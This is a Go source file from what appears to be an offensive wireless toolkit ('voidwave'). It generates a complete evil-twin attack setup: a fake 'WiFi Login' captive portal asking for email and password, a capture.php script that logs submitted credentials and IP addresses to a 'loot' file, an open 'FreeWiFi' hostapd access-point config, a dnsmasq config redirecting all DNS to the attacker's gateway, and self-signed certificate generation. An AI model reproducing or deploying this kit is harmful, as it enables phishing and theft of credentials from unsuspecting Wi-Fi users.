package autofix

import (
	"context"
	"os"
	"path/filepath"

	"voidwave/internal/config"
)

// SetupHandler implements AUTO-SETUP: create scaffolding (directory tree,
// default config, self-signed certs, captive-portal assets, hostapd/dnsmasq
// templates) under the VOIDWAVE home directory described by a config.Layout.
type SetupHandler struct {
	SetupType string
	Layout    config.Layout
}

func NewSetupHandler(setupType string, layout config.Layout) *SetupHandler {
	return &SetupHandler{SetupType: setupType, Layout: layout}
}

var setupKinds = map[string]bool{
	"directories": true,
	"config":      true,
	"certs":       true,
	"portal":      true,
	"hostapd":     true,
	"dnsmasq":     true,
}

func (h *SetupHandler) CanFix(ctx context.Context) bool {
	return setupKinds[h.SetupType]
}

func (h *SetupHandler) Fix(ctx context.Context) bool {
	switch h.SetupType {
	case "directories":
		return h.Layout.EnsureDirs() == nil
	case "config":
		return h.setupConfig()
	case "certs":
		return h.setupCerts(ctx)
	case "portal":
		return h.setupPortal()
	case "hostapd":
		return h.setupHostapd()
	case "dnsmasq":
		return h.setupDnsmasq()
	default:
		return false
	}
}

var setupPrompts = map[string]string{
	"directories": "Create VOIDWAVE directory structure?",
	"config":      "Create default configuration file?",
	"certs":       "Generate self-signed certificates?",
	"portal":      "Generate default captive portal assets?",
	"hostapd":     "Create hostapd configuration?",
	"dnsmasq":     "Create dnsmasq configuration?",
}

func (h *SetupHandler) PromptText(ctx context.Context) string {
	if p, ok := setupPrompts[h.SetupType]; ok {
		return p
	}
	return "Setup " + h.SetupType + "?"
}

const defaultConfigYAML = `name: voidwave
version: "1"
execution:
  default_timeout: 300s
  grace_window: 5s
gate_limits:
  network_scanner: 10
  web_scanner: 25
  password_cracker: 1
  traffic_capture: 5
  default: 10
logging:
  level: info
  format: text
  debug_mode: false
`

func (h *SetupHandler) setupConfig() bool {
	path := filepath.Join(h.Layout.ConfigDir(), "config.yaml")
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		return false
	}
	return os.WriteFile(path, []byte(defaultConfigYAML), 0o644) == nil
}

func (h *SetupHandler) setupCerts(ctx context.Context) bool {
	dir := h.Layout.Certs()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return false
	}
	caKey := filepath.Join(dir, "ca.key")
	caCert := filepath.Join(dir, "ca.crt")
	serverKey := filepath.Join(dir, "server.key")
	serverCert := filepath.Join(dir, "server.crt")

	commands := []string{
		"openssl genrsa -out " + caKey + " 2048",
		"openssl req -new -x509 -days 3650 -key " + caKey + " -out " + caCert + ` -subj "/CN=VOIDWAVE CA"`,
		"openssl genrsa -out " + serverKey + " 2048",
		"openssl req -new -key " + serverKey + ` -subj "/CN=captive.portal" | openssl x509 -req -days 365 -CA ` + caCert + " -CAkey " + caKey + " -CAcreateserial -out " + serverCert,
	}
	for _, cmd := range commands {
		if !runShell(ctx, cmd) {
			return false
		}
	}
	return true
}

const portalIndexHTML = `<!DOCTYPE html>
<html>
<head>
    <title>WiFi Login</title>
    <meta name="viewport" content="width=device-width, initial-scale=1">
    <link rel="stylesheet" href="style.css">
</head>
<body>
    <div class="container">
        <h1>WiFi Access</h1>
        <form action="capture.php" method="post">
            <input type="text" name="email" placeholder="Email" required>
            <input type="password" name="password" placeholder="Password" required>
            <button type="submit">Connect</button>
        </form>
    </div>
</body>
</html>
`

const portalStyleCSS = `* { margin: 0; padding: 0; box-sizing: border-box; }
body { font-family: -apple-system, sans-serif; background: #1a1a2e; color: #fff; min-height: 100vh; display: flex; align-items: center; justify-content: center; }
.container { background: #16213e; padding: 2rem; border-radius: 10px; width: 90%; max-width: 400px; }
h1 { text-align: center; margin-bottom: 1.5rem; }
input { width: 100%; padding: 12px; margin-bottom: 1rem; border: none; border-radius: 5px; background: #0f3460; color: #fff; }
input::placeholder { color: #888; }
button { width: 100%; padding: 12px; border: none; border-radius: 5px; background: #e94560; color: #fff; cursor: pointer; font-size: 1rem; }
button:hover { background: #ff6b6b; }
`

const portalCapturePHP = `<?php
$email = $_POST['email'] ?? '';
$password = $_POST['password'] ?? '';
$ip = $_SERVER['REMOTE_ADDR'] ?? '';
$time = date('Y-m-d H:i:s');

$log = __DIR__ . '/../../loot/portal_captures.txt';
$entry = "[$time] IP: $ip | Email: $email | Password: $password\n";
file_put_contents($log, $entry, FILE_APPEND);

header("Location: success.html");
?>
`

const portalSuccessHTML = `<!DOCTYPE html>
<html>
<head><title>Connected</title></head>
<body style="text-align:center;padding:50px;font-family:sans-serif;">
<h1>Connected!</h1>
<p>You can now use the WiFi network.</p>
</body>
</html>
`

func (h *SetupHandler) setupPortal() bool {
	dir := filepath.Join(h.Layout.Portals(), "default")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return false
	}
	files := map[string]string{
		"index.html":   portalIndexHTML,
		"style.css":    portalStyleCSS,
		"capture.php":  portalCapturePHP,
		"success.html": portalSuccessHTML,
	}
	for name, content := range files {
		if os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644) != nil {
			return false
		}
	}
	return true
}

const hostapdTemplate = `interface=wlan0
driver=nl80211
ssid=FreeWiFi
hw_mode=g
channel=6
wmm_enabled=0
macaddr_acl=0
auth_algs=1
ignore_broadcast_ssid=0
wpa=0
`

func (h *SetupHandler) setupHostapd() bool {
	path := filepath.Join(h.Layout.ConfigDir(), "hostapd.conf")
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		return false
	}
	return os.WriteFile(path, []byte(hostapdTemplate), 0o644) == nil
}

const dnsmasqTemplate = `interface=wlan0
dhcp-range=192.168.1.2,192.168.1.254,255.255.255.0,12h
dhcp-option=3,192.168.1.1
dhcp-option=6,192.168.1.1
server=8.8.8.8
log-queries
log-dhcp
address=/#/192.168.1.1
`

func (h *SetupHandler) setupDnsmasq() bool {
	path := filepath.Join(h.Layout.ConfigDir(), "dnsmasq.conf")
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		return false
	}
	return os.WriteFile(path, []byte(dnsmasqTemplate), 0o644) == nil
}
